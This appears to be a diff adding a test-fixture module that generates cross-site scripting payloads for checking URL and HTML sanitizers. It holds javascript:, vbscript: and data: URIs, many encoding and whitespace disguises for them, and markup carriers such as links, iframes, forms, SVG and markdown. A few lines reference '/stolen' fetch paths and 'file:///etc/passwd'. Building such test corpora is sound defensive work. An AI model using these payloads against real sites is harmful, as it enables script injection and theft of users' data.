@@ -1,0 +1,147 @@
+/** Addresses that run: schemes, in disguise, in every place that takes an address. */
+import {combine} from './payloads.mjs';
+
+const base64 = (text) => Buffer.from(text).toString('base64');
+const page = '<script>top.ran(1)</script>';
+const picture = '<svg xmlns="http://www.w3.org/2000/svg" onload="ran(1)"/>';
+
+const plain = [
+  'javascript:ran(1)',
+  "javascript:fetch('/stolen/fetch')",
+  "javascript:'<script>top.ran(1)</script>'",
+  'javascript://x%0Aran(1)',
+  'javascript://localhost/%0d%0aran(1)//',
+  'javascript:/*http://localhost/*/ran(1)',
+  'javascript:void(ran(1))',
+  'JavaScript:ran(1)',
+  'JAVASCRIPT:ran(1)',
+  'vbscript:ran(1)',
+  'livescript:ran(1)',
+  'mocha:ran(1)',
+  'view-source:javascript:ran(1)',
+  'feed:javascript:ran(1)',
+  'jar:javascript:ran(1)!/',
+  'blob:javascript:ran(1)',
+  'filesystem:javascript:ran(1)',
+  'file:///etc/passwd',
+  'about:srcdoc',
+  'about:blank#<script>ran(1)</script>',
+  'intent:#Intent;scheme=javascript;end',
+  'ms-its:x.chm::/x.htm',
+  'wyciwyg://1/javascript:ran(1)',
+  'ws://localhost/stolen/socket',
+  `data:text/html,${page}`,
+  `data:text/html;base64,${base64(page)}`,
+  `data:text/html;charset=utf-7,+ADw-script+AD4-top.ran(1)+ADw-/script+AD4-`,
+  `data:image/svg+xml,${picture}`,
+  `data:image/svg+xml;base64,${base64(picture)}`,
+  'data:application/xhtml+xml,<x xmlns="http://www.w3.org/1999/xhtml" onload="ran(1)"/>',
+  'data:text/javascript,ran(1)',
+  'data:,ran(1)',
+  'mailto:x?body=<script>ran(1)</script>',
+  'tel:1',
+];
+
+const inner = (at, what) => (text) => text.slice(0, at) + what + text.slice(at);
+const disguises = [
+  inner(0, ' '),
+  inner(0, '\u0001'),
+  inner(0, '\n\t\r'),
+  inner(0, '\u00a0'),
+  inner(0, '\ufeff'),
+  inner(0, '\u2028'),
+  inner(4, '\t'),
+  inner(4, '\n'),
+  inner(4, '\r\n'),
+  inner(4, '\0'),
+  inner(4, '\u200b'),
+  inner(4, '\u00ad'),
+  inner(10, ' '),
+  inner(10, '\t'),
+  inner(4, '&Tab;'),
+  inner(4, '&NewLine;'),
+  inner(4, '&#0;'),
+  inner(0, '&#1;'),
+  inner(4, '&#x0A'),
+  (text) => text.replace(':', '&colon;'),
+  (text) => text.replace(':', '&#58;'),
+  (text) => text.replace(':', '&#x0000003A'),
+  (text) => text.replace(':', '%3A'),
+  (text) => text.replace(':', '\\u003a'),
+  (text) => text.replace(':', '：'),
+  (text) => text.replace('s', 'ſ'),
+  (text) => text.replace('(1)', '&lpar;1&rpar;'),
+  (text) => text.replace('ran(1)', 'ran%281%29'),
+  (text) => [...text].map((each) => `&#${each.codePointAt(0)};`).join(''),
+  (text) => [...text].map((each) => `&#x${each.codePointAt(0).toString(16)}`).join(''),
+  (text) => [...text].map((each) => `%${each.codePointAt(0).toString(16)}`).join(''),
+];
+
+/** Addresses alone: what a field that wants one is given. */
+export const addresses = [
+  ...plain,
+  ...disguises.map((disguise) => disguise('javascript:ran(1)')),
+  ...disguises.slice(0, 12).map((disguise) => disguise(`data:text/html,${page}`)),
+  ...disguises.slice(4, 12).map((disguise) => disguise('vbscript:ran(1)')),
+  'http://[',
+  'https://',
+  'http:javascript:ran(1)',
+  'https:javascript:ran(1)',
+  'javascript:ran(1)//http://localhost/',
+  'http://localhost/"onmouseover="ran(1)',
+  "http://localhost/'onmouseover='ran(1)",
+  'http://localhost/ onmouseover=ran(1) ',
+  'http://localhost/><img src=x onerror=ran(1)>',
+  'http://javascript:ran(1)@localhost:1/',
+  'javascript&#58ran(1)',
+  '#javascript:ran(1)',
+  '?javascript:ran(1)',
+  './javascript:ran(1)',
+];
+
+const quoted = (address) => `"${address.replaceAll('"', '&quot;')}"`;
+const carriers = [
+  (address) => `<a href=${quoted(address)}>x</a>`,
+  (address) => `<a href='${address.replaceAll("'", '&#39;')}' target=_blank>x</a>`,
+  (address) => `<a/href=${address.replaceAll(/[\s>]/g, '')}>x</a>`,
+  (address) => `<map name=x><area shape=default href=${quoted(address)}></map>`,
+  (address) => `<form action=${quoted(address)}><button>x</button></form>`,
+  (address) => `<button formaction=${quoted(address)}>x</button>`,
+  (address) => `<iframe src=${quoted(address)}></iframe>`,
+  (address) => `<object data=${quoted(address)}></object>`,
+  (address) => `<embed src=${quoted(address)}>`,
+  (address) => `<img src=${quoted(address)}>`,
+  (address) => `<svg><a xlink:href=${quoted(address)}><text y=9>x</text></a></svg>`,
+  (address) => `<svg><a href=${quoted(address)}><text y=9>x</text></a></svg>`,
+  (address) => `<svg><use href=${quoted(address)} /></svg>`,
+  (address) => `<svg><image href=${quoted(address)} /></svg>`,
+  (address) => `<math href=${quoted(address)}><mi>x</mi></math>`,
+  (address) =>
+    `<math><mtext xlink:href=${quoted(address)} href=${quoted(address)}>x</mtext></math>`,
+  (address) => `<link rel=stylesheet href=${quoted(address)}>`,
+  (address) => `<meta http-equiv=refresh content=${quoted(`0;url=${address}`)}>`,
+  (address) => `<base href=${quoted(address)}>`,
+  (address) => `<body background=${quoted(address)}>`,
+  (address) => `<blockquote cite=${quoted(address)}>x</blockquote>`,
+  (address) => `<video poster=${quoted(address)} src=${quoted(address)}></video>`,
+  (address) => `<script src=${quoted(address)}></script>`,
+  (address) => `[x](${address})`,
+  (address) => `<${address}>`,
+];
+
+/** The same in the markup that would follow them. */
+export const carriedAddresses = [
+  ...combine((carry, address) => carry(address), carriers, [
+    plain[0],
+    plain[3],
+    plain[8],
+    plain[24],
+    plain[27],
+    plain[30],
+  ]),
+  ...combine(
+    (carry, disguise) => carry(disguise('javascript:ran(1)')),
+    [carriers[0], carriers[10], carriers[14], carriers[6]],
+    disguises,
+  ),
+];
